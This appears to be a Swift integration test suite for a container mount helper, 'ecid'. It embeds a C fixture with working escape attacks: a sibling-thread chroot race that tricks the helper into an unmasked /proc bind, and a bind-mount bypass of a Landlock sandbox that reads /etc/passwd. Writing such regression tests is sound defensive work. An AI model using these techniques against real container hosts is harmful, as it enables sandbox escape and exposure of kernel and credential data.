import ECICore
import ECITestSupport
import Foundation
import Testing

extension Integration.Ecid {
    /// An attack round on 95990ad against ecid's mount helper as a whole (the helper's view of
    /// its caller: root, mount table, namespaces; the pool; the wire), in locked (`--privileged`
    /// shape, eci-init) and unlocked (`runc exec --cap CAP_SYS_ADMIN` into a container started
    /// without it: ecid's traps alone) containers. Each test states what must hold next to the
    /// legitimate neighbour; the outcome against 95990ad is in its doc comment.
    @Suite struct AttackRound10 {
        typealias A = EciInitAttacks

        /// The round's C fixture (static, in the container's /bin/r10): `neighbour` (a mount
        /// namespace of its own, no race), `poison` (the same with a second thread that chroots
        /// while the first one's call is with ecid), `landlock` (mount calls of a process the
        /// container sandboxed with Landlock), `listener` (a seccomp listener of its own). Every field is NAME=VALUE.
        static let source = #"""
// Attack round 10 fixture (embedded in AttackRound10Tests.swift): the helper's view of the caller.
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/landlock.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int err(int rc) { return rc < 0 ? errno : 0; }

static const char *kind(const char *path) {
    struct stat st;
    if (lstat(path, &st) < 0) return "absent";
    if (S_ISCHR(st.st_mode)) return "masked";
    if (S_ISREG(st.st_mode)) return "REAL";
    if (S_ISDIR(st.st_mode)) return "dir";
    return "other";
}

// Rows of this process's mountinfo at `point` of file system type `type`.
static int rows(const char *point, const char *type) {
    FILE *f = fopen("/proc/self/mountinfo", "r");
    if (!f) return -errno;
    char *line = NULL, mp[4096], fs[256];
    size_t cap = 0;
    int n = 0;
    while (getline(&line, &cap, f) > 0) {
        char *dash = strstr(line, " - ");
        if (!dash || sscanf(line, "%*s %*s %*s %*s %4095s", mp) != 1 || sscanf(dash + 3, "%255s", fs) != 1) continue;
        if (!strcmp(mp, point) && !strcmp(fs, type)) n++;
    }
    free(line);
    fclose(f);
    return n;
}

// A second thread of the caller (CLONE_FS: one root for both) chroots to an empty directory
// while the first thread's call is with ecid, and returns to "/" once it is answered.
static volatile int calling, called;
static int rootfd, delay_us;
static void *chrooter(void *arg) {
    (void)arg;
    while (!calling) {}
    usleep(delay_us);
    long rc = chroot("/tmp/r10x") < 0 ? errno : 0;
    while (!called) usleep(100);
    if (fchdir(rootfd) < 0 || chroot(".") < 0 || chdir("/") < 0) rc = 1000 + errno;
    return (void *)rc;
}

// What a namespace's helper lets through: a bind of /proc without its submounts (ecid refuses
// it: EPERM; a locked namespace's kernel: EINVAL) and a stack of fresh procfs mounts on /proc.
static void probe(const char *tag) {
    int bind = err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL));
    printf("%s-bind=%d %s-keys=%s %s-kcore=%s %s-timer_list=%s\n", tag, bind, tag, bind ? "-" : kind("/tmp/r10m/keys"), tag,
           bind ? "-" : kind("/tmp/r10m/kcore"), tag, bind ? "-" : kind("/tmp/r10m/timer_list"));
    if (bind == 0) {
        int w = open("/tmp/r10m/sys/kernel/hostname", O_WRONLY);
        printf("%s-sys-writable-open=%d\n", tag, w < 0 ? errno : 0);
        if (w >= 0) close(w);
        umount2("/tmp/r10m", MNT_DETACH);
    }
    int made = 0;
    for (int i = 0; i < 6; i++) made += mount("proc", "/proc", "proc", 0, NULL) == 0;
    printf("%s-stacked=%d %s-proc-rows=%d %s-proc-keys=%s\n", tag, made, tag, rows("/proc", "proc"), tag, kind("/proc/keys"));
}

// A sandbox the container builds for one of its own processes (Landlock: files and directories
// readable only below /tmp), as build tools and browsers do; 0 or the errno of the step failed.
static int landlock_below_tmp(void) {
    struct landlock_ruleset_attr attr = { .handled_access_fs = LANDLOCK_ACCESS_FS_READ_FILE | LANDLOCK_ACCESS_FS_READ_DIR };
    int ruleset = (int)syscall(SYS_landlock_create_ruleset, &attr, sizeof attr, 0);
    if (ruleset < 0) return errno;
    struct landlock_path_beneath_attr tmp = { .allowed_access = attr.handled_access_fs, .parent_fd = open("/tmp", O_PATH | O_CLOEXEC) };
    if (syscall(SYS_landlock_add_rule, ruleset, LANDLOCK_RULE_PATH_BENEATH, &tmp, 0) < 0) return errno;
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0) return errno;
    if (syscall(SYS_landlock_restrict_self, ruleset, 0) < 0) return errno;
    return 0;
}

// A filter of the container's own sending mount to its own listener (the kernel picks the most
// recent filter among equal actions, so its CONTINUE would run mount untrapped); `listen` 0 for
// the same filter without a listener. 0 or the errno.
static int own_filter(int listen) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mount, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, listen ? SECCOMP_RET_USER_NOTIF : SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = { .len = 4, .filter = f };
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0) return errno;
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, listen ? SECCOMP_FILTER_FLAG_NEW_LISTENER : 0, &prog);
    return fd < 0 ? errno : 0;
}

static int readable(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return errno;
    close(fd);
    return 0;
}

// One try in a mount namespace of its own (a helper of its own, nothing kept yet): 0 when the
// helper let the maskless bind through.
static int poison_try(int i, int delay) {
    pid_t pid = fork();
    if (pid == 0) {
        if (unshare(CLONE_NEWNS) < 0) {
            printf("try-%d-unshare=%d\n", i, errno);
            _exit(3);
        }
        rootfd = open("/", O_PATH | O_DIRECTORY);
        delay_us = delay;
        pthread_t t;
        pthread_create(&t, NULL, chrooter, NULL);
        calling = 1;
        int first = err(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
        called = 1;
        void *chrooted = NULL;
        pthread_join(t, &chrooted);
        int bind = err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL));
        printf("try-%d delay=%d first=%d chroot=%ld bind=%d\n", i, delay, first, (long)chrooted, bind);
        if (bind == 0) umount2("/tmp/r10m", MNT_DETACH);
        if (bind == 1) _exit(1);
        probe("poisoned");
        _exit(0);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 2;
    mkdir("/tmp", 01777);
    mkdir("/tmp/r10x", 0755);
    mkdir("/tmp/r10m", 0755);
    mkdir("/tmp/r10n", 0755);
    if (!strcmp(argv[1], "neighbour")) {
        // A namespace of its own, no race: the maskless bind refused, an rbind works masked.
        pid_t pid = fork();
        if (pid == 0) {
            if (unshare(CLONE_NEWNS) < 0) _exit(3);
            printf("neighbour-rprivate=%d\n", err(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)));
            printf("neighbour-bind=%d\n", err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL)));
            int rbind = err(mount("/proc", "/tmp/r10n", NULL, MS_BIND | MS_REC, NULL));
            printf("neighbour-rbind=%d neighbour-rbind-keys=%s\n", rbind, rbind ? "-" : kind("/tmp/r10n/keys"));
            int made = 0;
            for (int i = 0; i < 6; i++) made += mount("proc", "/proc", "proc", 0, NULL) == 0;
            printf("neighbour-stacked=%d neighbour-proc-rows=%d neighbour-proc-keys=%s\n", made, rows("/proc", "proc"), kind("/proc/keys"));
            _exit(0);
        }
        waitpid(pid, NULL, 0);
        return 0;
    }
    if (!strcmp(argv[1], "poison")) {
        static const int delays[] = {3000, 1500, 6000, 10000, 2000, 4000, 800, 15000};
        int won = -1;
        for (int i = 0; i < 8 && won < 0; i++)
            if (poison_try(i, delays[i]) == 0) won = i;
        printf("poison-won=%d\n", won);
        return 0;
    }
    if (!strcmp(argv[1], "landlock")) {
        mkdir("/tmp/r10e", 0755);
        mkdir("/tmp/r10f", 0755);
        mkdir("/tmp/r10t", 0755);
        // The neighbour: the same process before its sandbox binds /etc and reads through it.
        int plain = err(mount("/etc", "/tmp/r10f", NULL, MS_BIND, NULL));
        printf("plain-bind=%d plain-read=%d\n", plain, plain ? -1 : readable("/tmp/r10f/passwd"));
        umount2("/tmp/r10f", MNT_DETACH);
        pid_t pid = fork();
        if (pid == 0) {
            printf("landlock-restrict=%d\n", landlock_below_tmp());
            printf("landlock-direct-read=%d\n", readable("/etc/passwd"));
            // The kernel forbids every mount call to a Landlock-restricted process (else a bind
            // would carry any directory below an allowed one): EPERM.
            int bind = err(mount("/etc", "/tmp/r10e", NULL, MS_BIND, NULL));
            printf("landlock-bind=%d landlock-read-through-bind=%d\n", bind, bind ? -1 : readable("/tmp/r10e/passwd"));
            printf("landlock-tmpfs=%d\n", err(mount("tmpfs", "/tmp/r10t", "tmpfs", 0, NULL)));
            _exit(0);
        }
        waitpid(pid, NULL, 0);
        umount2("/tmp/r10e", MNT_DETACH);
        umount2("/tmp/r10t", MNT_DETACH);
        return 0;
    }
    if (!strcmp(argv[1], "listener")) {
        for (int listen = 0; listen < 2; listen++) {
            pid_t pid = fork();
            if (pid == 0) {
                printf("%s=%d\n", listen ? "own-listener" : "own-filter", own_filter(listen));
                _exit(0);
            }
            waitpid(pid, NULL, 0);
        }
        return 0;
    }
    return 2;
}
"""#

        static func compile(into bundle: String) throws {
            try GrantAttacks.compile(source, into: bundle, at: "/bin/r10")
        }

        static func results(_ text: String) -> [String: String] {
            var out: [String: String] = [:]
            for line in text.split(separator: "\n") {
                for field in line.split(separator: " ") {
                    guard let equals = field.firstIndex(of: "=") else { continue }
                    out[String(field[..<equals])] = String(field[field.index(after: equals)...])
                }
            }
            return out
        }

        /// A privileged container (locked, or unlocked: no CAP_SYS_ADMIN at start) running
        /// `sleep MARKER`, with the fixture compiled in; the body gets its ID.
        static func withContainer(_ sandbox: RuntimeSandbox, id: String, marker: Int, locked: Bool, _ body: () throws -> Void) throws {
            let bundle = try sandbox.makeBundle(id, script: "exec sleep \(marker)") {
                if locked { Integration.RuntimeLocks.privileged(&$0) } else { Integration.RuntimeLocks.privilegedWithoutSysAdmin(&$0) }
            }
            try Self.compile(into: bundle)
            let started = try sandbox.runtimeDetached(["run", "-d", "--bundle", bundle, id])
            defer { A.delete(sandbox, id) }
            #expect(started.status == 0, "\(started.stderr)")
            let pid = try #require(try A.pid(of: "sleep \(marker)"))
            #expect(A.isLocked(pid) == locked)
            try body()
        }

        /// The helper reads the caller's mount table through `/proc/TID/mountinfo`, which the
        /// kernel renders from the task's root *when the file is opened*, while it resolves the
        /// caller's names from the root ecid opened (`/proc/TID/root`) when the notification
        /// came. Threads share their root (CLONE_FS): a second thread that chroots to an empty
        /// directory between the two makes the helper judge the call against the mounts seen
        /// from there, i.e. none. The helper of a namespace keeps the table it opened first for
        /// the namespace's root (`MountTableCache`), so one won race poisons every later call
        /// of that namespace: nothing is protected any more. The fixture (`poison`) tries in
        /// fresh mount namespaces (a helper of its own each) and then binds /proc without its
        /// submounts and stacks six fresh procfs mounts on /proc.
        /// Must hold: the maskless bind refused (ecid's EPERM; the kernel's EINVAL in a locked
        /// namespace would already show the policy was skipped), no real /proc/keys or kcore,
        /// at most four procfs on /proc. The neighbour (`neighbour`, same calls, no race): the
        /// maskless bind refused, an rbind of /proc works masked, the stack stops at four.
        /// Against 95990ad: ESCAPED. Unlocked (`runc exec --cap CAP_SYS_ADMIN`): the bind is
        /// performed and shows the real /proc/keys, /proc/kcore and /proc/timer_list, and
        /// /proc/sys is writable through it (masks and read-only paths revealed, class (a)).
        /// Locked: the kernel refuses the bind (EINVAL: locked submounts), but ecid's rules are
        /// gone for that namespace (seven procfs on /proc, past the bound of four). Fix: the
        /// helper reads its own mountinfo (`/proc/self/mountinfo` of the VM's /proc) after it
        /// has taken the caller's root: rendered from exactly the root and namespace its own
        /// lookups use, whatever the caller's threads do.
        @Test(arguments: [false, true])
        func siblingChrootDoesNotBlindTheHelper(locked: Bool) throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let kind = locked ? "locked" : "unlocked"
            try Self.withContainer(sandbox, id: "r10-chroot-\(kind)", marker: locked ? 5101 : 5102, locked: locked) {
                let exec = try sandbox.runtime(["exec", "--cap", "CAP_SYS_ADMIN", "r10-chroot-\(kind)", "sh", "-c", "/bin/r10 neighbour; /bin/r10 poison"])
                print("AttackRound10.siblingChrootDoesNotBlindTheHelper (\(kind)): \(exec.stdout) \(exec.stderr)")
                let got = Self.results(exec.stdout)
                #expect(got["neighbour-bind"] == "1", "\(kind): the neighbour's maskless bind: \(exec.stdout)")
                #expect(got["neighbour-rbind"] == "0" && got["neighbour-rbind-keys"] == "masked", "\(kind): the neighbour's rbind: \(exec.stdout)")
                #expect(got["neighbour-proc-rows"].flatMap { Int($0) }.map { $0 <= 4 } == true && got["neighbour-proc-keys"] == "masked", "\(kind): \(exec.stdout)")
                #expect(got["poison-won"] != nil, "the probe did not run: \(exec.stdout) \(exec.stderr)")
                #expect(got["poison-won"] == "-1", "\(kind): a sibling thread's chroot made the helper judge against an empty table: \(exec.stdout) \(ecid.log().split(separator: "\n").filter { $0.contains("r10m") || $0.contains("/proc") }.suffix(6))")
                #expect(got["poisoned-keys"] != "REAL" && got["poisoned-kcore"] != "REAL", "\(kind): masks revealed: \(exec.stdout)")
                #expect(got["poisoned-proc-rows"].flatMap { Int($0) }.map { $0 <= 4 } != false, "\(kind): past the bound: \(exec.stdout)")
            }
        }
        /// A Landlock-restricted process may not mount: the kernel refuses every mount call,
        /// unmount, remount and pivot_root of a task whose Landlock domain handles file access
        /// (otherwise a bind would carry any directory below one the sandbox allows). Containers
        /// build such sandboxes for their own less trusted processes (build tools, browsers,
        /// language runtimes). ecid performs trapped calls in its helper, which has no Landlock
        /// domain, and refuses only AppArmor- and SELinux-confined callers (by their label);
        /// Landlock has no label and no interface that shows another task's domain. The fixture
        /// sandboxes a child of the container's root (reads only below /tmp), which then binds
        /// /etc below /tmp and reads /etc/passwd through the bind (Landlock walks a path up
        /// through its mount points, so /tmp's rule allows it).
        /// Must hold: the bind refused (EPERM, the kernel's answer), /etc/passwd unreadable.
        /// The neighbour: the same process before its sandbox binds /etc and reads through it.
        /// Against 95990ad: ESCAPED (of the container's own sandbox, class (c): performed without
        /// the caller's LSM domain), locked and unlocked: `landlock-bind=0`,
        /// `landlock-read-through-bind=0` (direct read EACCES). Untrapped calls of a locked
        /// container (umount, bind remounts) still meet Landlock in the kernel. Not fixed here:
        /// the helper cannot take on or even see the caller's domain; what would close it is a
        /// kernel answer for the caller's own context (CONTINUE, ruled out for calls whose check
        /// reads pointers) or an interface that reports another task's Landlock domain (none
        /// in 6.18). Documented as a known issue.
        @Test(arguments: [false, true])
        func landlockedCallerGetsNoMount(locked: Bool) throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            let kind = locked ? "locked" : "unlocked"
            try Self.withContainer(sandbox, id: "r10-landlock-\(kind)", marker: locked ? 5103 : 5104, locked: locked) {
                let exec = try sandbox.runtime(["exec", "--cap", "CAP_SYS_ADMIN", "r10-landlock-\(kind)", "/bin/r10", "landlock"])
                print("AttackRound10.landlockedCallerGetsNoMount (\(kind)): \(exec.stdout) \(exec.stderr)")
                let got = Self.results(exec.stdout)
                #expect(got["plain-bind"] == "0" && got["plain-read"] == "0", "\(kind): the neighbour: \(exec.stdout)")
                #expect(got["landlock-restrict"] == "0" && got["landlock-direct-read"] == "13", "\(kind): the sandbox: \(exec.stdout)")
                withKnownIssue("ecid's helper performs a Landlock-restricted caller's mounts without its domain (design-level: no interface shows another task's domain)") {
                    #expect(got["landlock-bind"] == "1" && got["landlock-read-through-bind"] == "-1", "\(kind): the sandboxed process bound /etc below /tmp: \(exec.stdout)")
                    #expect(got["landlock-tmpfs"] == "1", "\(kind): \(exec.stdout)")
                }
            }
        }
        /// The kernel hands a notification to the most recently installed filter among those
        /// returning the same action (seccomp_run_filters keeps the first of equal precedence),
        /// so a container filter of its own sending mount to its own listener would be asked
        /// before ecid, and its CONTINUE would run mount untrapped. (Round 8 tried a listener
        /// only against the syscall floor, whose ERRNO outranks it, and without ecid.)
        /// Must hold: no second listener below ecid's. The neighbour: the same filter without a
        /// listener installs. Against 95990ad: BLOCKED (the kernel allows one listener per
        /// filter chain, has_duplicate_listener: EBUSY; a container filter's TRACE ranks below
        /// USER_NOTIF, its ERRNO only fails its own call).
        @Test func ownListenerCannotPreemptEcid() throws {
            let sandbox = try RuntimeSandbox()
            defer { sandbox.cleanup() }
            let ecid = try Daemon(sandbox: sandbox)
            defer { ecid.kill() }
            try Self.withContainer(sandbox, id: "r10-listener", marker: 5105, locked: true) {
                let exec = try sandbox.runtime(["exec", "r10-listener", "/bin/r10", "listener"])
                print("AttackRound10.ownListenerCannotPreemptEcid: \(exec.stdout) \(exec.stderr)")
                let got = Self.results(exec.stdout)
                #expect(got["own-filter"] == "0", "the neighbour: \(exec.stdout)")
                #expect(got["own-listener"] == "\(EBUSY)", "a listener of the container's own below ecid's: \(exec.stdout)")
            }
        }
    }
}
